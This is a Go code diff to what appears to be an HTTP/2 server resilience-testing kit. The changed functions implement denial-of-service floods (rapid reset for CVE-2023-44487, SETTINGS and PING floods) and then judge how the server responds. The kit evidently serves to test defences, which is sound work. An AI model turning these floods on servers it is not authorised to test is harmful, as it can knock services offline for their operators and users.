@@ -23,8 +23,8 @@ const (
 	floodBatch = 100
 	// settle bounds the wait for the server's verdict after an attack: a
 	// GOAWAY, a close, or the answer to a PING that shows the connection
-	// still serves.
-	settle = 2 * time.Second
+	// still serves (behind the answers to a flood of requests).
+	settle = 5 * time.Second
 	// trickleFrame is the payload length of a trickled HEADERS frame.
 	trickleFrame = 16000
 )
@@ -271,7 +271,7 @@ func H2ZeroWindow(ctx context.Context, c net.Conn, path string, streams int, pin
 // H2RapidReset opens count streams, each a HEADERS frame for GET path
 // immediately followed by RST_STREAM (CANCEL), as fast as the connection
 // takes them (CVE-2023-44487), stopping early if the server ends the
-// connection. Then it sends a PING and waits up to 2 s for the verdict: a
+// connection. Then it sends a PING and waits up to 5 s for the verdict: a
 // GOAWAY, a close, or the PING's answer (the connection still serves).
 // Streams counts the streams opened; Held runs from the first stream to
 // the verdict.
@@ -286,6 +286,7 @@ func H2RapidReset(ctx context.Context, c net.Conn, path string, count int) (res 
 	}
 	start := time.Now()
 	block := HeaderBlock("GET", path, "vigil-faultkit")
+	var werr error
 	for sent := 0; sent < count; {
 		var b []byte
 		for range min(floodBatch, count-sent) {
@@ -294,21 +295,26 @@ func H2RapidReset(ctx context.Context, c net.Conn, path string, count int) (res 
 			b = AppendFrame(b, FrameRSTStream, 0, id, u32(CodeCancel))
 			sent++
 		}
-		if err := h.Write(b); err != nil || connOver(h.State()) {
+		if werr = h.Write(b); werr != nil || connOver(h.State()) {
 			break
 		}
 	}
-	return verdict(h, start)
+	return verdict(h, start, werr)
 }
 
-// verdict sends a PING after an attack and waits up to settle for the
-// server's answer, a GOAWAY or the connection's end.
-func verdict(h *H2Client, start time.Time) (Result, error) {
-	before := h.State().PingAcks
-	if err := h.Ping(0x7665726469637400); err == nil {
-		h.Wait(time.Now().Add(settle), func(s H2State) bool { return connOver(s) || s.PingAcks > before })
+// verdict waits up to settle for the server's verdict on an attack: when
+// the attack's last write failed (werr), for the connection's end;
+// otherwise it sends a PING and waits for its answer (the connection still
+// serves), a GOAWAY or the end. After a GOAWAY it waits for the close.
+func verdict(h *H2Client, start time.Time, werr error) (Result, error) {
+	const last = 0x7665726469637400 // "verdict\0": not a payload of any flood
+	if werr == nil {
+		werr = h.Ping(last)
 	}
-	if s := h.State(); s.GoAway && !s.Done {
+	if werr == nil {
+		h.Wait(time.Now().Add(settle), func(s H2State) bool { return connOver(s) || s.LastAck == last })
+	}
+	if s := h.State(); werr != nil || s.GoAway && !s.Done {
 		h.Wait(time.Now().Add(settle), func(s H2State) bool { return s.Done })
 	}
 	return finishH2(h, 1, start)
@@ -357,16 +363,17 @@ func H2ContinuationFlood(ctx context.Context, c net.Conn, path string, maxBytes 
 }
 
 // H2SettingsFlood sends count empty SETTINGS frames as fast as the
-// connection takes them, without reading the server's acks meanwhile
-// (Quiet: they pile up on the server), then waits for the verdict as
-// H2RapidReset does.
+// connection takes them, without reading anything meanwhile (the server's
+// acks pile up in the sockets and then in its own queue), then reads and
+// waits for the verdict as H2RapidReset does.
 func H2SettingsFlood(ctx context.Context, c net.Conn, count int) (Result, error) {
 	r, err := controlFlood(ctx, c, count, AppendFrame(nil, FrameSettings, 0, 0, nil))
 	return r, prefix("h2 settings flood", err)
 }
 
 // H2PingFlood sends count PING frames as fast as the connection takes
-// them, then waits for the verdict as H2RapidReset does.
+// them, without reading meanwhile, then reads and waits for the verdict as
+// H2RapidReset does.
 func H2PingFlood(ctx context.Context, c net.Conn, count int) (Result, error) {
 	r, err := controlFlood(ctx, c, count, AppendFrame(nil, FramePing, 0, 0, []byte("flooding")))
 	return r, prefix("h2 ping flood", err)
@@ -377,7 +384,7 @@ func controlFlood(ctx context.Context, c net.Conn, count int, frame []byte) (Res
 	if count <= 0 {
 		return Result{}, fmt.Errorf("count %d: need a positive count", count)
 	}
-	h, err := NewH2Client(ctx, c, H2Options{Quiet: true})
+	h, err := NewH2Client(ctx, c, H2Options{Quiet: true, Deaf: true})
 	if err != nil {
 		return Result{Ended: endedBy(err)}, nil
 	}
@@ -386,13 +393,15 @@ func controlFlood(ctx context.Context, c net.Conn, count int, frame []byte) (Res
 	for range floodBatch {
 		batch = append(batch, frame...)
 	}
+	var werr error
 	for sent := 0; sent < count; sent += floodBatch {
 		n := min(floodBatch, count-sent)
-		if err := h.Write(batch[:n*len(frame)]); err != nil || connOver(h.State()) {
+		if werr = h.Write(batch[:n*len(frame)]); werr != nil {
 			break
 		}
 	}
-	return verdict(h, start)
+	h.StartReading()
+	return verdict(h, start, werr)
 }
 
 // H2HugeHeaders sends one GET for path whose header block is size bytes
